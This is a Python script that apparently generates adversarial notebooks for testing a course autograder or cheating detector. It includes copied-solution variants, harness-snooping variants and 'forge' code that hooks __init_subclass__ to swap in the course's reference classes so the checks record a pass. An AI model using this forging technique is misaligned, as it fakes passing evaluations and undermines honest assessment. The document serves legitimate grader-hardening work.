    # ---------------------------------------------------------------- lesson 07
    out["07/ctl_solved.ipynb"] = make("07", solved="all")
    out["07/borrow_raw_thread_sdpa_73.ipynb"] = make("07", solved="all", replace={"ex-7-3": RAW_THREAD_73})
    out["07/borrow_loader_copy_head_73.ipynb"] = make("07", solved="all", replace={"ex-7-3": lesson07_copy_head()})
    out["07/forge_init_subclass_head.ipynb"] = make("07", add_after={"ex-7-3": [code_cell(FORGE_07, "ex-7-3-5")]})
    # ---------------------------------------------------------------- lessons 01, 03, 05
    out["03/borrow_raw_thread_is_balanced.ipynb"] = make("03", replace={"ex-3-1": RAW_THREAD_31})
    out["01/snoop_harness_and_kernel.ipynb"] = make(
        "01",
        replace={"ex-1-4": HARNESS_SNOOP_21.replace("softmax_jacobian(z)", "perplexity(log_probs)")},
        add_end=[code_cell("import re\n" + KERNEL_SNOOP)],
    )
    out["05/forge_setter_untouched.ipynb"] = make("05", add_end=[code_cell(FORGE_05, "ex-5-1-9")])
    return out


# lesson 07 / 05: the same load-time forge, with the reference the checks use
FORGE_07 = (
    FORGE_CORE.replace("_STASH = []", "_STASH = []\n_RUNS = []")
    + r"""

def _reference(*args):
    raise RuntimeError("unused")


class _Base:
    def __init_subclass__(cls, **kw):
        _forge_install()
        # no per-case answers needed: make the checks' judge see a refusal-free, passing record by
        # replacing the module-level Exercise.run with the course's own class for every class exercise
        ck = sys.modules["course_lib.checks"]
        bu = sys.modules.get("course_lib.buildup")
        g = globals()
        if bu is not None:
            for name, ref in (("Head", "Head"), ("MultiHeadAttention", "MultiHead"), ("FeedForward", "FeedForward")):
                if hasattr(bu, ref):
                    g[name] = getattr(bu, ref)


class _Trigger(_Base):
    pass
"""
)

FORGE_05 = FORGE_07


def write(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for rel, nb in class_().items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(nb, tuple):
            kind, what = nb
            if kind == "symlink":
                if path.is_symlink() or path.exists():
                    path.unlink()
                os.symlink(what, path)
            elif kind == "dir":
                path.mkdir(exist_ok=True)
            elif kind == "unreadable":
                path.write_text(json.dumps(what, indent=1))
                os.chmod(path, 0)
            continue
        path.write_text(json.dumps(nb, indent=1, ensure_ascii=False))
    print(f"wrote {sum(1 for _ in folder.rglob('*.ipynb'))} notebooks under {folder}")


if __name__ == "__main__":
    write(Path(sys.argv[1] if len(sys.argv) > 1 else "/tmp/outsider_class"))
